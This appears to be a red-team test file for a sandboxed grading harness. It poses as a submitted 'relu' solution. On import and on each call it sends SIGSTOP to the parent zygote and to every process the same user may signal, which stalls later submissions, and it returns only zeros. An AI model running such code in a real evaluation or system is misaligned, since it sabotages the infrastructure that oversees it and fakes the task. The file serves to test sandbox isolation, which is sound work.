# attack: stop the process it was forked from (the warm zygote), and every process it may
#         signal, with SIGSTOP: later students forked from a stopped zygote never start
# levels: bwrap process-root
# the helpers of _common.py come first
# ruff: noqa


def _stop():
    stopped = []
    for pid in _targets():
        try:
            os.kill(pid, signal.SIGSTOP)
            stopped.append(pid)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGSTOP)  # every process this uid may signal, but itself
        stopped.append(-1)
    except OSError:
        pass
    print("stopped", stopped, flush=True)
    return stopped


_STOPPED = _stop()


def relu(x):
    _stop()
    return _zeros(x) + 0 * len(_STOPPED)
